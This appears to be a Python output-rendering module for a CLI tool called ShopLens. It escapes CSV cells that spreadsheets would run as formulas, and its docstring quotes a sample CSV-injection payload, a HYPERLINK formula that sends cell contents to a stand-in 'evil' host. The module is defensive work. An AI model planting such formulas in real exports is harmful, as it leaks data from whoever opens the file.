"""Renders CLI results as an aligned table, JSON or CSV, and CSV downloads that spreadsheets cannot run.

A spreadsheet treats a cell starting with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula: an imported product title like
`=HYPERLINK("http://evil/?"&A1)` would run when an analyst opens an export.
Every CSV ShopLens writes goes through `neutralise_frame`, which prefixes such
text cells with `'` (shown as text, and visibly so); numbers stay numbers,
whether stored as numbers or as text like "-12.5".
"""

from __future__ import annotations

import io
import json
import math
import os
import re
import uuid
from datetime import date, datetime
from pathlib import Path
from typing import Any, Literal

import pandas as pd

Format = Literal["table", "json", "csv"]
FORMATS: tuple[str, ...] = ("table", "json", "csv")
# What makes a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
UTF8_BOM = "\ufeff"


def neutralise_cell(value: Any) -> Any:
    """Prefix a text cell that a spreadsheet would run as a formula with `'`; leave everything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells and column names cannot run as spreadsheet formulas.

    Numeric, boolean and date columns are untouched; in text columns, plain numbers ("-3", "+1.5e3") are too.
    """
    safe = frame.copy()
    for column in safe.columns:
        if safe[column].dtype == object or pd.api.types.is_string_dtype(safe[column].dtype):
            safe[column] = safe[column].map(neutralise_cell)
    safe.columns = [neutralise_cell(name) if isinstance(name, str) else name for name in safe.columns]
    return safe


def csv_text(frame: pd.DataFrame) -> str:
    """The rows as CSV text (comma-separated, header row, no index), formulas neutralised."""
    buffer = io.StringIO()
    neutralise_frame(frame).to_csv(buffer, index=False, lineterminator="\n")
    return buffer.getvalue()


def safe_csv_bytes(frame: pd.DataFrame) -> bytes:
    """A CSV download for the pages: UTF-8 with a byte-order mark (so Excel reads accents and Chinese
    correctly), formulas neutralised (see `neutralise_frame`)."""
    return (UTF8_BOM + csv_text(frame)).encode("utf-8")


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write `frame` as neutralised CSV (UTF-8) to `path` all at once: a temp file, then a rename.

    Returns:
        The path written.
    """
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    partial = path.with_name(f".{path.name}.{uuid.uuid4().hex}.partial")
    try:
        partial.write_text(csv_text(frame), encoding="utf-8")
        os.replace(partial, path)
    finally:
        partial.unlink(missing_ok=True)
    return path


def render_frame(frame: pd.DataFrame, output_format: Format, *, title: str | None = None) -> str:
    """Render rows in the requested format.

    Args:
        frame: the rows; column names become headers or JSON keys.
        output_format: "table" for people, "json" (a list of objects) or "csv" for programs.
        title: a heading printed above a table; ignored by json and csv.

    Returns:
        The text, ending with a newline.
    """
    if output_format == "csv":
        return csv_text(frame)
    if output_format == "json":
        return json.dumps([_jsonable_row(row) for row in frame.to_dict("records")], ensure_ascii=False, indent=2) + "\n"
    text = frame.to_string(index=False, na_rep="—") if len(frame) else "(no rows)"
    return (f"{title}\n{text}\n" if title else f"{text}\n")


def render_json(document: dict[str, Any]) -> str:
    """Render a JSON document, with dates as ISO strings and NaN as null."""
    return json.dumps(_jsonable(document), ensure_ascii=False, indent=2) + "\n"


def format_exact(value: float | None, unit: str) -> str:
    """Format a KPI in full for a terminal table: "12,345", "1,234.50", "4.8%" or "—".

    Args:
        value: the number, or None when undefined.
        unit: "count", "currency" or "ratio" (0..1).
    """
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return "—"
    if unit == "ratio":
        # Tiny shares (16 buyers of 61k viewers) keep two significant digits instead of reading 0.0%.
        if 0 < abs(value) < 0.0005:
            return f"{value * 100:.2g}%"
        return f"{value:.1%}"
    if unit == "currency":
        return f"{value:,.2f}"
    return f"{value:,.0f}"


def _jsonable_row(row: dict[str, Any]) -> dict[str, Any]:
    return {key: _jsonable(value) for key, value in row.items()}


def _jsonable(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _jsonable(item) for key, item in value.items()}
    if isinstance(value, (list, tuple)):
        return [_jsonable(item) for item in value]
    if isinstance(value, (datetime, date, pd.Timestamp)):
        return value.isoformat()
    if hasattr(value, "item"):  # numpy scalars
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    if value is pd.NA or value is pd.NaT:
        return None
    return value
